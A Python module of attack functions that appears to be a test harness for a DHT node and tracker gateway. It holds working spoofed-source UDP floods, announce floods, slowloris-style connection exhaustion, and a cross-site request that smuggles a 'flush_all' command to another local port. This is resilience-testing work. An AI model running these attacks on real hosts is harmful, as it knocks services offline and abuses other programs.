"""The attacks, each a function that runs on the attacker's host, or as a client of the node, and says what it saw."""

from __future__ import annotations

import contextlib
import os
import random
import resource
import socket
import struct
import threading
import time

from ground import ATTACKER, DHT_PORT, GATEWAY_PORT, NODE

_ID = b"abcdefghij0123456789"


def ping(transaction: bytes) -> bytes:
    return b"d1:ad2:id20:" + _ID + b"e1:q4:ping1:t%d:%s1:y1:qe" % (len(transaction), transaction)


def get_peers(infohash: bytes) -> bytes:
    return b"d1:ad2:id20:" + _ID + b"9:info_hash20:" + infohash + b"e1:q9:get_peers1:t2:aa1:y1:qe"


def _checksum(header: bytes) -> int:
    total = sum(struct.unpack("!10H", header))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def datagram(source: bytes, payload: bytes) -> bytes:
    """An IPv4 packet with a UDP datagram for the node, from any source; without a checksum of UDP (RFC 768 allows it)."""
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), DHT_PORT, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, socket.inet_aton(NODE))
    return head[:10] + struct.pack("!H", _checksum(head)) + head[12:] + udp


def flood(seconds: float, rate: float, networks: int, swarms: int) -> dict[str, float]:
    """Forged queries for so many infohashes from random addresses of so many /24s, at most `rate` a second; and an honest node
    that asks for a swarm of its own once every tenth of a second."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    queries = [get_peers(random.randbytes(20)) for _ in range(swarms)]
    byte = random.randrange
    prefixes = [bytes([random.choice([23, 45, 80, 91, 145]), byte(256), byte(256)]) for _ in range(networks)]
    packets = [datagram(random.choice(prefixes) + bytes([byte(1, 255)]), random.choice(queries)) for _ in range(4096)]
    stop, honest = threading.Event(), [0, 0]
    pinger = threading.Thread(target=_ask_honestly, args=(stop, honest))
    pinger.start()
    start, sent = time.monotonic(), 0
    while (passed := time.monotonic() - start) < seconds:
        if sent > rate * passed:
            time.sleep(0.001)
            continue
        for packet in packets[sent % 4096 : sent % 4096 + 64]:
            with contextlib.suppress(OSError):  # the queue of the device is full
                raw.sendto(packet, (NODE, 0))
        sent += 64
    stop.set()
    pinger.join()
    return {"queries a second": sent / seconds, "honest asked": honest[0], "honest answered": honest[1]}


def _ask_honestly(stop: threading.Event, counts: list[int]) -> None:
    """Each question comes from another address of its own, and is sent once more if no answer comes in a second."""
    number = 0
    while not stop.is_set():
        number += 1
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.bind((f"198.19.{number % 250}.{1 + number // 250}", 0))
            client.settimeout(1)
            counts[0] += 1
            for _ in range(2):
                client.sendto(get_peers(random.randbytes(20)), (NODE, DHT_PORT))
                with contextlib.suppress(TimeoutError):
                    client.recv(2048)
                    counts[1] += 1
                    break
        stop.wait(0.1)


def announce(infohash: bytes, port: int) -> bytes:
    escaped = "".join(f"%{byte:02x}" for byte in infohash)
    target = f"/announce?info_hash={escaped}&peer_id=-XX0000-abcdefghijkl&port={port}&left=5&compact=1"
    return f"GET {target} HTTP/1.1\r\nHost: {NODE}:{GATEWAY_PORT}\r\n\r\n".encode()


def _connected(clients: list[socket.socket]) -> list[tuple[socket.socket, bytes]]:
    """Those that the gateway has given a connection id (BEP 15)."""
    for client in clients:
        client.sendto(struct.pack("!QII", 0x41727101980, 0, 7), (NODE, GATEWAY_PORT))
    time.sleep(1)
    known = []
    for client in clients:
        with contextlib.suppress(BlockingIOError):
            known.append((client, client.recv(16)[8:16]))
    return known


def _announce_by_udp(connection: bytes, infohash: bytes, port: int) -> bytes:
    body = infohash + b"-XX0000-abcdefghijkl" + struct.pack("!QQQIIIiH", 0, 5, 0, 2, 0, 0, 50, port)
    return connection + struct.pack("!II", 1, 8) + body


def _client(addr: str) -> socket.socket:
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.bind((addr, 0))
    client.setblocking(False)
    return client


def crowd_of_one(seconds: float, torrents: int, ports: int) -> dict[str, float]:
    """One address announces so many torrents with so many ports each, as fast as it can."""
    [(client, connection)] = _connected([_client(ATTACKER)])
    start, number = time.monotonic(), 0
    while time.monotonic() - start < seconds and number < torrents * ports:
        infohash = (number % torrents).to_bytes(20, "big")
        with contextlib.suppress(OSError):
            client.sendto(_announce_by_udp(connection, infohash, 1024 + number // torrents), (NODE, GATEWAY_PORT))
        number += 1
    return {"announces a second": number / (time.monotonic() - start)}


def strangers(seconds: float, count: int) -> dict[str, float]:
    """So many addresses ask by UDP for torrents that only they want, again and again."""
    known = _connected([_client(f"198.19.{number // 200}.{1 + number % 200}") for number in range(count)])
    sent, start = 0, time.monotonic()
    while time.monotonic() - start < seconds:
        for client, connection in known:
            with contextlib.suppress(OSError):
                client.sendto(_announce_by_udp(connection, os.urandom(20), 6881), (NODE, GATEWAY_PORT))
                sent += 1
        time.sleep(0.2)
    return {"connected": len(known), "announces a second": sent / seconds}


def own_client(patience: float) -> dict[str, float]:
    """A client on the node's host asks for a torrent that nobody has, while strangers fill the lookups: the seconds until its
    answer."""
    start = time.monotonic()
    with socket.create_connection((NODE, GATEWAY_PORT), timeout=patience) as client:
        client.sendall(announce(os.urandom(20), 6881))
        answer = client.recv(4096)
    return {"seconds": time.monotonic() - start, "answered": float(b"8:interval" in answer)}


def connections(count: int, seconds: float) -> dict[str, float]:
    """One address opens so many connections and says nothing; another one is served meanwhile?"""
    kept = []
    for _ in range(count):
        client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        client.setblocking(False)
        with contextlib.suppress(OSError):
            client.connect((NODE, GATEWAY_PORT))
        kept.append(client)
    time.sleep(seconds)
    start = time.monotonic()
    with socket.create_connection((NODE, GATEWAY_PORT), timeout=10, source_address=("198.19.99.1", 0)) as other:
        other.sendall(f"GET / HTTP/1.0\r\nHost: {NODE}:{GATEWAY_PORT}\r\n\r\n".encode())
        served = b"200 OK" in other.recv(4096)
    for client in kept:
        client.close()
    return {"another is served": float(served), "after seconds": time.monotonic() - start}


def slow_heads(count: int, seconds: float) -> dict[str, float]:
    """So many connections, of as many addresses, each with a head as long as it may be that does not end; is another client served?"""
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 256, count + 256))
    head = b"GET /announce?" + b"x" * 7_900
    kept = []
    for number in range(count):
        client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        client.settimeout(2)
        with contextlib.suppress(OSError):
            client.bind((f"198.19.{number % 200}.{1 + number // 200}", 0))
            client.connect((NODE, GATEWAY_PORT))
            client.sendall(head)
        kept.append(client)
    time.sleep(seconds)
    with socket.create_connection((NODE, GATEWAY_PORT), timeout=10, source_address=("198.19.230.1", 0)) as other:
        other.sendall(f"GET / HTTP/1.0\r\nHost: {NODE}:{GATEWAY_PORT}\r\n\r\n".encode())
        served = b"200 OK" in other.recv(4096)
    for client in kept:
        client.close()
    return {"another is served": float(served)}


def page(port: int) -> dict[str, float]:
    """What a web page can send from a browser on the node's host, with the port of another program; how often that one was
    connected to, and how many requests were answered otherwise than by 403."""
    listener = socket.create_server((NODE, port))
    listener.settimeout(1)
    served = 0
    command = b"\r\nflush_all\r\n" + b"x" * 7
    ours = f"Host: {NODE}:{GATEWAY_PORT}\r\n"
    for sign in [
        ours + "Origin: http://evil.example\r\n",
        ours + "Referer: http://evil.example/\r\n",
        ours + "Sec-Fetch-Site: cross-site\r\n",
        ours + "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0\r\n",
        ours + "Accept: text/html,application/xhtml+xml\r\n",
        "Host: rebound.example\r\n",
    ]:
        request = announce(command, port).replace(ours.encode(), sign.encode())
        with socket.create_connection((NODE, GATEWAY_PORT), timeout=10) as browser:
            browser.sendall(request)
            served += b" 403 " not in browser.recv(4096).split(b"\r\n")[0]
    connected = 0
    with contextlib.suppress(TimeoutError):
        while True:
            listener.accept()
            connected += 1
    return {"connected to": connected, "not refused": served}
